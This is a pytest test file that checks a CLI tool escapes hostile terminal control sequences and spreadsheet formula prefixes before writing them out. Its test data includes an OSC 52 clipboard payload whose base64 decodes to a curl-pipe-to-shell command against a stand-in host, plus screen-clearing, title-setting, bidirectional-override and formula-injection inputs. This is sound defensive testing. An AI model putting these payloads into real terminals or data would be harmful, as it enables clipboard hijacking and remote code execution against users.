"""What a sender wrote never reaches the terminal as a command: ``cbe`` run in a real pty.

The database holds OSC 52 (write the clipboard), ``ESC [ 2 J`` (clear the screen), ``ESC ] 0``
(set the window title), a C1 CSI and a right-to-left override in a contact's name, an event's
label, property values and names. The bytes the terminal receives hold none of them, only their
visible escapes. A pty, not CliRunner: click strips some sequences itself when it writes to a
pipe, which would hide the bug.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from cli.bootstrap import open_services
from cli.main import main
from core.errors import ValidationFailed
from core.ingestion import Mode
from core.models import ObjectType, Source
from core.text import UNSAFE
from tests.sending import send_one

ROOT = Path(__file__).resolve().parent.parent

OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"
CLEAR = "\x1b[2J"
TITLE = "\x1b]0;title\x07"
C1_CSI = "\x9b"
RLO = "\u202e"

SHOWN = [
    "\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\\x07",
    "\\x1b[2J",
    "\\x1b]0;title\\x07",
    "\\x9b",
    "\\u202e",
]

# What cbe itself writes to a terminal: bold and underline (click.style) and the progress bar's
# hiding and showing of the cursor. Nothing else may carry an ESC.
OWN_SEQUENCES = re.compile(r"\x1b\[[0-9;]*m|\x1b\[\?25[lh]")


def run_in_pty(*args: str) -> str:
    """Run ``cbe ARGS`` with a pty as its terminal; everything it wrote, decoded."""
    leader, follower = pty.openpty()
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "200"}
    env.pop("CBE_DEBUG", None)
    process = subprocess.Popen(
        [sys.executable, "-m", "cli", *args],
        stdin=follower,
        stdout=follower,
        stderr=follower,
        cwd=ROOT,
        env=env,
    )
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the command ended and closed its side
            break
        if not chunk:
            break
        chunks.append(chunk)
    process.wait(timeout=60)
    os.close(leader)
    return b"".join(chunks).decode("utf-8")


def assert_harmless(seen: str) -> None:
    """No ESC but cbe's own styling, no C1 control, no bidirectional control reached the pty."""
    left = OWN_SEQUENCES.sub("", seen).replace("\r", "").replace("\n", "")
    assert "\x1b" not in left, left
    assert UNSAFE.search(left) is None, [m[0] for m in UNSAFE.finditer(left)]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A contact, an event and completions whose text is made to attack a terminal."""
    path = tmp_path_factory.mktemp("hostile") / "db"
    services = open_services(path)
    try:
        services.records.create(
            ObjectType.CONTACT,
            {"email": "ann@example.com", "firstname": f"Ann{OSC52}", "lastname": f"{RLO}eeL"},
        )
        event = services.definitions.create(
            {
                "label": f"Viewed{TITLE} Car",
                "propertyDefinitions": [
                    {"label": "Make", "type": "string"},
                    {"label": "Model", "type": "string"},
                ],
            }
        ).fully_qualified_name
        send_one(
            services.ingestion,
            {
                "eventName": event,
                "email": "ann@example.com",
                "properties": {"make": f"{CLEAR}Kia{C1_CSI}", "model": f"x{OSC52}"},
            },
        )
        # the public collector's path: no token, lenient
        services.ingestion.ingest(
            [{"eventName": event, "email": "ann@example.com", "properties": {"make": RLO}}],
            Mode.LENIENT,
            Source.JS,
        )
        # refused and kept: a property name (a field path) and values that attack
        with pytest.raises(ValidationFailed):
            send_one(
                services.ingestion,
                {
                    "eventName": event,
                    "email": "ann@example.com",
                    "properties": {f"a{CLEAR}": OSC52, f"b{TITLE}{C1_CSI}{RLO}": "x"},
                },
            )
    finally:
        services.close()
    return path


def test_timeline_shows_escapes_not_sequences(hostile_db: Path) -> None:
    seen = run_in_pty("timeline", "--db", str(hostile_db), "--email", "ann@example.com", "--expand")
    assert "contact 1" in seen, seen
    assert_harmless(seen)
    for escape in SHOWN:
        assert escape in seen, escape
    assert "Viewed\\x1b]0;title\\x07 Car" in seen


def test_rejections_show_field_paths_and_bodies_escaped(hostile_db: Path) -> None:
    seen = run_in_pty("rejections", "--db", str(hostile_db))
    assert "UNKNOWN_PROPERTY" in seen, seen
    assert_harmless(seen)
    assert "properties.a\\x1b[2J" in seen
    assert "properties.b\\x1b]0;title\\x07\\x9b\\u202e" in seen


def test_rejections_json_is_exact_and_harmless(hostile_db: Path) -> None:
    seen = run_in_pty("rejections", "--db", str(hostile_db), "--json")
    assert_harmless(seen)
    (kept,) = json.loads(seen)
    assert kept["body"]["properties"][f"a{CLEAR}"] == OSC52


def test_send_error_lines_escape_what_the_file_holds(hostile_db: Path, tmp_path: Path) -> None:
    services = open_services(hostile_db)
    event = services.definitions.search()[0].fully_qualified_name
    services.close()
    file = tmp_path / "bad.jsonl"
    body = {"eventName": event, "email": "ann@example.com", "properties": {OSC52: CLEAR}}
    file.write_text(json.dumps(body) + "\n" + json.dumps({**body, "email": f"x{RLO}@y.z"}) + "\n")
    seen = run_in_pty("send", str(file), "--db", str(hostile_db))
    assert "rejected 2" in seen, seen
    assert_harmless(seen)
    assert f"line 1: properties.{SHOWN[0]}:" in seen
    assert "line 2: email: email 'x\\u202e@y.z' holds control characters" in seen


def test_report_table_escapes_values(hostile_db: Path) -> None:
    services = open_services(hostile_db)
    event = services.definitions.search()[0].name
    services.close()
    seen = run_in_pty("report", "event", event, "--db", str(hostile_db), "--range", "today")
    assert "Property" in seen, seen
    assert_harmless(seen)
    assert "\\x1b[2JKia\\x9b" in seen
    assert "Viewed\\x1b]0;title\\x07 Car" in seen


def test_report_csv_never_starts_a_formula(tmp_path: Path) -> None:
    db = tmp_path / "db"
    services = open_services(db)
    try:
        services.records.create(ObjectType.CONTACT, {"email": "ann@example.com"})
        event = services.definitions.create(
            {"label": "Viewed Car", "propertyDefinitions": [{"label": "Make", "type": "string"}]}
        ).fully_qualified_name
        for make in ("=1+1", "+1", "-1+cmd", "@SUM(A1)", "Kia", "-3"):
            send_one(
                services.ingestion,
                {"eventName": event, "email": "ann@example.com", "properties": {"make": make}},
            )
    finally:
        services.close()
    result = CliRunner().invoke(
        main, ["report", "event", "viewed_car", "--db", str(db), "--range", "today", "--csv"]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[0][:3] == ["Property", "Internal name", "Value"]
    makes = {row[2] for row in rows[1:] if row[1] == "make"}
    assert makes == {"'=1+1", "'+1", "'-1+cmd", "'@SUM(A1)", "Kia", "-3"}


def test_error_lines_escape_what_they_quote(hostile_db: Path) -> None:
    seen = run_in_pty("report", "event", f"x{CLEAR}{RLO}", "--db", str(hostile_db))
    assert "Error:" in seen, seen
    assert_harmless(seen)
    assert "x\\x1b[2J\\u202e" in seen
